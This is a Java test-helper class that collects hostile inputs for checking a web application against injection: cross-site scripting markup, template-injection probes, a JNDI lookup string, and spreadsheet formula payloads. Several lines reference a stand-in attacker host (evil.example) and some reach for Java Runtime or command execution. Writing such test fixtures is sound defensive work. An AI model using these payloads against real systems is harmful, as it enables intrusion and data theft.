package io.plimsoll.access;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/** What is typed where text is asked for, by somebody who means harm; each would leave a mark if it worked. */
final class Hostile {

    /** A tag, an attribute or a call of this name in a page is markup that came to life. */
    static final String MARK = "pwned";

    /** What 40127 times 31337 makes, too long to stand in a token by chance; where it is shown, something was evaluated. */
    static final String EVALUATED = "1257459799";

    private static final List<String> MARKUP = List.of(
            "<script>pwned()</script>",
            "\"><img src=x onerror=pwned()>",
            "'><svg/onload=pwned()>",
            "</textarea></title></script><pwned>",
            "<a href=\"javascript:pwned()\">x</a>",
            "javascript:pwned()",
            "\" autofocus onfocus=pwned() x=\"",
            "<iframe srcdoc=\"<pwned>\"></iframe>",
            "--><pwned>]]><pwned>",
            "<style>@import 'http://evil.example'</style>",
            "<link rel=stylesheet href=//evil.example>",
            "&lt;pwned&gt;&#60;pwned&#62;",
            "<form action=//evil.example><button formaction=javascript:pwned()>");

    private static final List<String> TEMPLATES = List.of(
            "${40127*31337}",
            "#{40127*31337}",
            "*{40127*31337}",
            "[[${40127*31337}]]",
            "[(${40127*31337})]",
            "__${40127*31337}__::.x",
            "|${40127*31337}|",
            "~{::x}",
            "#set($p=40127*31337)$p",
            "$esc.getClass().forName('java.lang.Runtime')",
            "#parse('x')#evaluate('#set($p=40127*31337)$p')",
            "{{40127*31337}}",
            "<%=40127*31337%>",
            "=40127*31337",
            "T(java.lang.Runtime).getRuntime()",
            "%{40127*31337}",
            "${jndi:ldap://evil.example/x}");

    private static final List<String> FORMULAS =
            List.of("=1+1|cmd", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"http://evil.example\")");

    private Hostile() {}

    /** Each by itself, at most 120 characters long and on one line. */
    static List<String> each() {
        return Stream.of(MARKUP, TEMPLATES, FORMULAS).flatMap(List::stream).toList();
    }

    /** All of them in as few names of 120 characters as they fit into. */
    static List<String> names() {
        List<String> names = new ArrayList<>();
        StringBuilder name = new StringBuilder();
        for (String one : each()) {
            if (name.length() + one.length() > 119) {
                names.add(name.toString());
                name.setLength(0);
            }
            name.append(one).append(' ');
        }
        names.add(name.toString());
        return names.stream().map(String::strip).toList();
    }

    /** All in one, for fields that take so much. */
    static String all() {
        return String.join(" ", each());
    }

    /** The worst of them in a name of 120 characters. */
    static String name() {
        return "<pwned>\"><img src=x onerror=pwned()>'[[${40127*31337}]]__${40127*31337}__#set($p=40127*31337)$p";
    }
}
